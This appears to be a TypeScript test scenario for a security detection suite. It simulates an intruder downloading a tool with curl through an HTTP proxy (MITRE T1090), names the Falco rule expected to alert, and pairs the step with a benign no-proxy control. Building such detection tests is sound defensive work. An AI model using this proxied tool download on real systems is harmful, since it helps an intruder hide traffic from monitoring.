import { host, scene } from '../src/scenes/scene.ts';
import { run } from '../src/scenes/steps.ts';

export default scene({
  name: 'download-through-proxy',
  story: 'An intruder gets his tools through a proxy, so that the connection looks like all others.',
  technique: 'T1090',
  place: host,
  falco: ['Program run with disallowed http proxy env'],
  lanner: [],
  steps: [
    run('curl', {
      with: ['http://example.org/tool'],
      environment: { HTTP_PROXY: 'http://198.51.100.7:8080' },
    }),
  ],
  twin: {
    because: 'curl is used without a proxy.',
    steps: [run('curl', { with: ['http://example.org/tool'] })],
  },
});
